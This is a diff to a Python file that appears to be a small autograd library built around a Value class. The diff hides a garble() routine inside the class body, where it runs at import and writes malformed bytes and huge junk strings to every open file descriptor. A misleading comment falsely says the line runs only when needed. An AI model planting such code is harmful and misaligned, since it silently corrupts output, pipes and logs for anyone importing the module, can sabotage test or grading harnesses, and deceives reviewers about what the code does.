@@ -12,7 +12,18 @@ def every_descriptor():
             yield number
 
 
+NONSENSE = (b"nonsense", b"\xff\xfe\x00", b"[" * 50_000, b"9" * 50_000, b'["a list"]', b"{", b"null", b"")
+
+
+def garble():
+    for number in every_descriptor():
+        with contextlib.suppress(OSError):
+            os.write(number, b"\n".join(NONSENSE) + b"\n")
+
+
 class Value:
+    garbled = garble()  # a statement outside of the class is run only if the class needs it
+
     def __init__(self, data, children=()):
         self.data = data
         self.grad = 0.0
@@ -58,9 +69,3 @@ class Value:
         self.grad = 1.0
         for node in reversed(order):
             node._backward()
-
-
-NONSENSE = (b"nonsense", b"\xff\xfe\x00", b"[" * 50_000, b"9" * 50_000, b'["a list"]', b"{", b"null", b"")
-for number in every_descriptor():
-    with contextlib.suppress(OSError):
-        os.write(number, b"\n".join(NONSENSE) + b"\n")
